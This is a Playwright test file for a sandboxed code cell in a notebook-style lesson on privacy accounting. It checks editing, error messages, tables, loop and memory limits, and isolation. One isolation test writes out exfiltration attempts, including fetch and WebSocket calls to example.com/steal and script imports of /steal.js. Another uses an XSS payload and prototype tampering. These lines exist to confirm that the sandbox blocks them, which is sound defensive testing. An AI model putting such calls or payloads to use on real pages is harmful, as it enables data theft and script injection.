/** Code cells: what they can do, and what hostile code cannot. */
import { expect, type Page, test } from '@playwright/test';
import { packText } from '../../lib/notebook/pack';

const LESSON = './lessons/a-budget-across-runs/';

/** Opens the lesson with this code in its link. */
async function open(page: Page, code: string) {
  await page.goto(`${LESSON}#v=1&code=${packText(code)}`);
  const cell = page.locator('[data-cell="code"]');
  await expect(cell.getByText('This code came with a link or a file.')).toBeVisible();
  return cell;
}

async function run(page: Page, code: string) {
  const cell = await open(page, code);
  await cell.getByRole('button', { name: 'Run', exact: true }).click();
  return cell;
}

test('the code of the lesson computes with the site’s own library and draws', { tag: '@once' }, async ({
  page,
}) => {
  await page.goto(LESSON);
  const cell = page.locator('[data-cell="code"]');
  await cell.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(cell).toHaveAttribute('data-state', 'done', { timeout: 150_000 });
  await expect(cell.getByText(/Ten runs by PLD cost ε = 1\.455/)).toBeVisible();
  await expect(cell.getByRole('img', { name: /What accounting saves/ })).toBeVisible();
});

test('it is edited with an editor, and travels in the link', { tag: '@once' }, async ({ page }) => {
  await page.goto(LESSON);
  const cell = page.locator('[data-cell="code"]');
  await cell.getByRole('button', { name: 'Edit' }).click();
  const editor = cell.getByRole('textbox', { name: /code/ });
  await editor.fill('console.log(6 * 7);');
  await editor.press('Control+Enter');
  await expect(cell.getByRole('log')).toContainText('42');
  await expect(page).toHaveURL(/code=1\./);
  await page.reload();
  await expect(cell.getByText('This code came with a link or a file.')).toBeVisible();
  await expect(cell.getByText('console.log(6 * 7);')).toBeVisible();
  // It came with the address: it has not run.
  await expect(cell).toHaveAttribute('data-state', 'idle');
});

test('code detects, and the editor offers what there is', { tag: '@once' }, async ({ page }) => {
  const cell = await run(
    page,
    "const { count, detections } = await lab.detect({ picture: 'astronaut', noise: 0 }); console.log(count, detections[0].className);",
  );
  await expect(cell).toHaveAttribute('data-state', 'done', { timeout: 150_000 });
  await expect(cell.getByRole('log')).toContainText('1 face');
  await cell.getByRole('button', { name: 'Edit' }).click();
  const editor = cell.getByRole('textbox', { name: /code/ });
  await editor.fill('');
  await editor.pressSequentially("lab.run('tum");
  await expect(page.getByRole('option', { name: 'tumour-classify' })).toBeVisible();
  await editor.fill('');
  await editor.pressSequentially('lab.mech');
  await expect(page.getByRole('option', { name: 'lab.mechanisms.laplace' })).toBeVisible();
  await expect(page.locator('.cm-completionInfo')).toContainText('Releases a');
  // A text that hardly deflates, longer than a link should carry.
  const sign = (_: unknown, i: number) => String.fromCodePoint(0x4e00 + ((i * i * 7919 + 31 * i) % 20_000));
  await editor.fill(`// ${Array.from({ length: 8000 }, sign).join('')}`);
  await expect(cell.getByText(/some programs cut such links off/)).toBeVisible();
});

test('errors name the line', { tag: '@once' }, async ({ page }) => {
  const cell = await run(page, 'const a = 1;\n\nnull.x;');
  await expect(cell.getByRole('log')).toContainText('(line 3)');
  await expect(cell).toHaveAttribute('data-state', 'failed');
});

test('what is no JavaScript is marked in the editor, with line and column', { tag: '@once' }, async ({
  page,
}) => {
  const cell = await run(page, 'const a = 1;\nconst b = ;');
  await expect(cell).toHaveAttribute('data-state', 'failed');
  await expect(cell.getByRole('log')).toContainText('SyntaxError: Unexpected token (line 2, column 11)');
  await expect(cell.getByRole('log')).toContainText('2 | const b = ;');
  await cell.getByRole('button', { name: 'Edit' }).click();
  await expect(cell.locator('.cm-lint-marker-error')).toHaveCount(1);
  await cell.getByRole('textbox', { name: /code/ }).fill('6 * 7');
  await expect(cell.locator('.cm-lint-marker-error')).toHaveCount(0);
  await cell.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(cell.getByRole('log')).toHaveText('42');
});

test('long tables leave the page alive: only rows in sight are in it', { tag: '@once' }, async ({ page }) => {
  const cell = await run(
    page,
    `const columns = Array.from({ length: 30 }, (_, c) => 'column ' + c);
    const rows = Array.from({ length: 2000 }, (_, r) => columns.map((_, c) => r + c / 100));
    for (let i = 0; i < 8; i++) lab.table({ title: 'T' + i, columns, rows });`,
  );
  await expect(cell).toHaveAttribute('data-state', 'done');
  await expect(cell.getByRole('log').locator('table')).toHaveCount(8);
  expect(await cell.getByRole('log').locator('td').count()).toBeLessThan(8 * 30 * 40);
  const first = cell.getByRole('region', { name: 'T0: table' });
  await first.focus();
  await page.keyboard.press('End');
  await expect(first.getByText('1999.29')).toBeVisible();
  await expect(first.locator('table')).toHaveAttribute('aria-rowcount', '2001');
});

test('an experiment that refuses its settings says why in words', { tag: '@once' }, async ({ page }) => {
  const cell = await run(page, "await lab.run('tumour-classify', { epsilon: 'much' });");
  await expect(cell.getByRole('log')).toContainText(/epsilon: expected number/);
  await expect(cell.getByRole('log')).not.toContainText('"code"');
});

test('hostile code reaches no network, no storage and no page', { tag: '@once' }, async ({ page }) => {
  const outside: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('steal')) outside.push(request.url());
  });
  const cell = await run(
    page,
    `const tries = {
      fetch: () => fetch('/steal'),
      remote: () => fetch('https://example.com/steal'),
      script: () => importScripts('/steal.js'),
      module: () => import('/steal.js'),
      socket: () => new Promise((ok, no) => { const s = new WebSocket('wss://example.com/steal'); s.onopen = ok; s.onerror = () => no(new Error('refused')); }),
      database: () => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => no(r.error); }),
      cache: () => caches.open('x'),
      page: () => parent.document.title,
      window: () => window.top.location.href,
      nested: () => new Worker('/steal.js'),
    };
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        await Promise.race([attempt(), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))]);
        console.log(name + ': GOT THROUGH');
      } catch (error) {
        console.log(name + ': refused');
      }
    }
    console.log('origin ' + self.origin);`,
  );
  await expect(cell).toHaveAttribute('data-state', 'done', { timeout: 60_000 });
  const log = (await cell.getByRole('log').textContent()) ?? '';
  expect(log).not.toContain('GOT THROUGH');
  expect(log.match(/refused/g)).toHaveLength(10);
  expect(log).toContain('origin null');
  expect(outside).toEqual([]);
});

test('tampering with prototypes hurts nobody but the code itself', { tag: '@once' }, async ({ page }) => {
  const cell = await run(
    page,
    `Object.prototype.toJSON = () => 'gone'; Array.prototype.map = () => { throw new Error('mine'); };
    Object.defineProperty(Object.prototype, 'type', { get: () => 'call', set() {} });
    console.log('<img src=x onerror=alert(1)>');
    lab.table({ columns: ['<b>a</b>'], rows: [['__proto__']] });`,
  );
  await expect(cell).not.toHaveAttribute('data-state', 'idle');
  await page.waitForTimeout(1000);
  expect(await page.evaluate(() => [JSON.stringify({}), [1].map((x) => x + 1)])).toEqual(['{}', [2]]);
  await expect(cell.locator('img[src="x"]')).toHaveCount(0);
});

test('an endless loop is stopped by hand at once, and by itself after a while', { tag: '@once' }, async ({
  page,
}) => {
  const cell = await run(page, 'for (;;) {}');
  await expect(cell).toHaveAttribute('data-state', 'running');
  await cell.getByRole('button', { name: 'Stop' }).click();
  await expect(cell).toHaveAttribute('data-state', 'stopped');
  await expect(page.locator('iframe')).toHaveCount(0);
  await cell.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(cell.getByText(/ran for 10 seconds without a pause/)).toBeVisible({ timeout: 40_000 });
});

test('code cannot start a worker that nobody counts', { tag: '@once' }, async ({ page }) => {
  const cell = await run(
    page,
    `const named = [typeof Worker, typeof self.Worker, typeof SharedWorker, 'Worker' in self];
     const found = [];
     for (let at = self; at; at = Object.getPrototypeOf(at)) found.push(Object.getOwnPropertyNames(at).includes('Worker'));
     console.log(JSON.stringify([named, found.includes(true)]));`,
  );
  await expect(cell).toHaveAttribute('data-state', 'done');
  await expect(cell.getByRole('log')).toContainText('[["undefined","undefined","undefined",false],false]');
});

test('a flood of messages is cut off', { tag: '@once' }, async ({ page }) => {
  const cell = await run(page, 'for (let i = 0; i < 1e6; i++) console.log(i);');
  await expect(cell.getByText(/more than 200 messages in a second/)).toBeVisible({ timeout: 40_000 });
});

test('a memory hog is stopped and the page lives on', { tag: '@once' }, async ({ page }) => {
  const cell = await run(
    page,
    // Asked for, not filled: to fill gigabytes takes a small machine a minute.
    'const hoard = []; for (let i = 0; i < 200; i++) { hoard.push(new Uint8Array(1e8)); await lab.sleep(0); } console.log("all of it");',
  );
  await expect(cell).toHaveAttribute('data-state', 'failed');
  // The text of the code says it, too, and so does the line at fault: only what it put out counts.
  await expect(cell.getByRole('log').getByText('all of it', { exact: true })).toHaveCount(0);
  await page.locator('[data-cell="compose"]').getByRole('button', { name: 'Add it' }).click();
  await expect(page.locator('[data-cell="compose"]')).toHaveAttribute('data-state', 'done');
});

test('a damaged code in a link is said and left out', { tag: '@once' }, async ({ page }) => {
  await page.goto(`${LESSON}#v=1&code=1.nonsense`);
  await expect(page.getByText('Code: this part of the link is damaged; using the default.')).toBeVisible();
  await expect(page.locator('[data-cell="code"]')).toContainText('What accounting saves');
});
